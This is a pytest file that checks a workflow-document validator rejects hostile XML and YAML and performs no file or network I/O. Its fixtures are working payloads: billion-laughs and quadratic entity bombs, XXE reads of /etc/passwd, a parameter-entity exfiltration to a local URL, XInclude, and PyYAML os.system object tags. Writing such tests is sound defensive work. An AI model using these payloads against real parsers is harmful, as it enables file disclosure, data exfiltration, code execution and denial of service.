"""Hostile documents are rejected with located errors and touch no file or socket
(design/reliability.md B2, B3; figure 7)."""

from __future__ import annotations

import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager

import pytest

from maidit_jupyter.errors import ErrorCode
from maidit_jupyter.validation.validator import check_document
from tests import figures

_EVENTS: list[str] = []
_WATCHING = [False]


def _audit(event: str, args: tuple[object, ...]) -> None:
    if _WATCHING[0] and (event == "open" or event.startswith("socket.")):
        _EVENTS.append(event)


sys.addaudithook(_audit)


@contextmanager
def watching() -> Iterator[list[str]]:
    """The file opens and socket calls made inside the block."""
    _EVENTS.clear()
    _WATCHING[0] = True
    try:
        yield _EVENTS
    finally:
        _WATCHING[0] = False


HEADER = "---\nname: attack\nversion: 1.0.0\n---\n"
LAUGHS = (
    HEADER
    + '<!DOCTYPE lolz [\n  <!ENTITY lol "lol">\n'
    + "".join(
        f'  <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'
        for i in range(1, 10)
    )
    + ']>\n<workflow>\n  <transform id="t"><template>&lol9;</template></transform>\n</workflow>\n'
)
EXTERNAL_ENTITY = (
    HEADER
    + '<!DOCTYPE w [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    + '<workflow>\n  <transform id="t"><template>&xxe;</template></transform>\n</workflow>\n'
)
EXTERNAL_DTD = (
    HEADER
    + '<!DOCTYPE workflow SYSTEM "http://127.0.0.1:9/evil.dtd">\n<workflow>\n</workflow>\n'
)
YAML_BOMB = (
    "---\nname: bomb\nversion: 1.0.0\n"
    + 'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n'
    + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 9)}]\n"
        for i in range(8)
    )
    + "---\n<workflow>\n</workflow>\n"
)
HUGE = HEADER + "<workflow>\n" + ("<!-- padding -->" * 3_300_000) + "</workflow>\n"


BODY = '<workflow>\n  <transform id="t" type="template"><template>x</template></transform>\n</workflow>\n'


def xml(prolog: str, body: str = BODY) -> str:
    """A valid frontmatter, then ``prolog`` before the workflow element."""
    return HEADER + prolog + "\n" + body


def yaml_doc(extra: str) -> str:
    """Frontmatter with ``extra`` lines added to a valid one."""
    return "---\nname: attack\nversion: 1.0.0\n" + extra + "---\n" + BODY


QUADRATIC = xml(
    f'<!DOCTYPE w [<!ENTITY big "{"x" * 20_000}">]>',
    '<workflow><transform id="t" type="template"><template>'
    + "&big;" * 2_000
    + "</template></transform></workflow>\n",
)

#: (id, document, expected first error code or None, its line or None): the XML and
#: YAML attack classes of design/reliability.md B2 and B3 (defusedxml's classes plus
#: variants, PyYAML's constructor CVEs, alias bombs, size and depth abuse).
ATTACKS: list[tuple[str, str, ErrorCode | None, int | None]] = [
    ("billion-laughs", LAUGHS, ErrorCode.PARSE_XML_INVALID, 5),
    ("external-entity", EXTERNAL_ENTITY, ErrorCode.PARSE_XML_INVALID, 5),
    ("external-dtd", EXTERNAL_DTD, ErrorCode.PARSE_XML_INVALID, 5),
    ("yaml-alias-bomb", YAML_BOMB, ErrorCode.PARSE_YAML_INVALID, 4),
    ("50-megabytes", HUGE, ErrorCode.PARSE_XML_INVALID, 6),
    ("quadratic-blowup", QUADRATIC, ErrorCode.PARSE_XML_INVALID, 5),
    (
        "xxe-http",
        xml('<!DOCTYPE w [<!ENTITY x SYSTEM "http://127.0.0.1:9/x">]>'),
        None,
        5,
    ),
    (
        "xxe-ftp",
        xml('<!DOCTYPE w [<!ENTITY x SYSTEM "ftp://127.0.0.1:9/x">]>'),
        None,
        5,
    ),
    (
        "public-dtd",
        xml('<!DOCTYPE w PUBLIC "-//X//Y" "http://127.0.0.1:9/y.dtd">'),
        None,
        5,
    ),
    (
        "parameter-entity",
        xml('<!DOCTYPE w [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>'),
        None,
        5,
    ),
    (
        "parameter-entity-exfiltration",
        xml(
            '<!DOCTYPE w [<!ENTITY % f SYSTEM "file:///etc/hostname">'
            "<!ENTITY % e \"<!ENTITY &#x25; s SYSTEM 'http://127.0.0.1:9/?%f;'>\"> %e; %s;]>"
        ),
        None,
        5,
    ),
    (
        "cyclic-entities",
        xml('<!DOCTYPE w [<!ENTITY a "&b;"><!ENTITY b "&a;">]>'),
        None,
        5,
    ),
    ("empty-internal-subset", xml("<!DOCTYPE workflow []>"), None, 5),
    ("bare-doctype", xml("<!DOCTYPE workflow>"), None, 5),
    (
        "entity-in-body",
        HEADER + '<workflow>\n<!ENTITY x SYSTEM "file:///etc/passwd">\n</workflow>\n',
        None,
        6,
    ),
    ("unknown-entity-reference", HEADER + "<workflow>\n&xxe;\n</workflow>\n", None, 6),
    (
        "processing-instruction",
        xml('<?xml-stylesheet href="http://127.0.0.1:9/s.xsl"?>'),
        None,
        5,
    ),
    ("xml-declaration-late", xml('<?xml version="1.0" encoding="UTF-7"?>'), None, 5),
    (
        "xinclude",
        HEADER
        + '<workflow xmlns:xi="http://www.w3.org/2001/XInclude">\n'
        + '  <xi:include href="file:///etc/passwd" parse="text"/>\n</workflow>\n',
        None,
        None,
    ),
    (
        "deep-nesting",
        HEADER + "<workflow>" + "<a>" * 100_000 + "</a>" * 100_000 + "</workflow>\n",
        None,
        5,
    ),
    (
        "megabyte-attribute",
        HEADER + f'<workflow>\n<transform id="{"a" * 1_000_000}"/>\n</workflow>\n',
        None,
        6,
    ),
    (
        "python-object-apply",
        yaml_doc("x: !!python/object/apply:os.system [id]\n"),
        None,
        4,
    ),
    ("python-object-new", yaml_doc("x: !!python/object/new:os.system [id]\n"), None, 4),
    ("python-name", yaml_doc("x: !!python/name:os.system\n"), None, 4),
    ("python-module", yaml_doc("x: !!python/module:os\n"), None, 4),
    ("yaml-binary", yaml_doc("x: !!binary aGVsbG8=\n"), None, 4),
    ("yaml-set", yaml_doc("x: !!set {a, b}\n"), None, 4),
    ("anchor-alias", yaml_doc("a: &x [1, 2]\nb: *x\n"), None, 4),
    ("merge-key", yaml_doc("a: &x {k: 1}\nb:\n  <<: *x\n"), None, 4),
    ("duplicate-key", yaml_doc("name: other\n"), None, 4),
    ("deep-yaml", yaml_doc("x: " + "[" * 100_000 + "]" * 100_000 + "\n"), None, 4),
    ("huge-scalar", yaml_doc("x: " + "a" * 50_000_000 + "\n"), None, None),
    ("complex-key", yaml_doc("? [a, b]\n: 1\n"), None, 4),
    (
        "bidi-override-id",
        HEADER
        + '<workflow>\n<transform id="a\u202eb" type="template"><template>x</template></transform>\n</workflow>\n',
        None,
        6,
    ),
    ("nul-byte", HEADER + "<workflow>\n\x00\n</workflow>\n", None, None),
]


@pytest.mark.reliability
@pytest.mark.parametrize(
    ("text", "code", "line"),
    [pytest.param(text, code, line, id=name) for name, text, code, line in ATTACKS],
)
def test_attack_document_is_rejected_with_a_located_error(
    text: str, code: ErrorCode | None, line: int | None
) -> None:
    """The attack gives a located error (with the expected code and line where known)
    and reads or fetches nothing (figure 7)."""
    check_document(HEADER + "<workflow/>\n")  # import everything the parser uses first
    started = time.perf_counter()
    with watching() as events:
        checked = check_document(text, path="attack.flow.md")
    figures.sample("markup attacks", ms=(time.perf_counter() - started) * 1000)
    errors = checked.report.errors
    figures.count(
        "markup attacks", documents=1, accepted=int(not errors), opens=len(events)
    )
    assert events == [], f"the parser did I/O: {events}"
    assert errors, "the attack was accepted"
    assert all(error.line for error in errors), "an error without a line"
    if code is not None:
        assert errors[0].code is code
    if line is not None:
        assert errors[0].line == line
    assert "lol" * 100 not in repr(checked.workflow)


def test_the_corpus_covers_thirty_attacks() -> None:
    """Figure 7 asks for at least 30 distinct documents."""
    assert len({text for _, text, _, _ in ATTACKS}) >= 30


def test_huge_document_is_about_fifty_megabytes() -> None:
    """The size attack really is that size (guards the fixture)."""
    assert len(HUGE) > 50_000_000
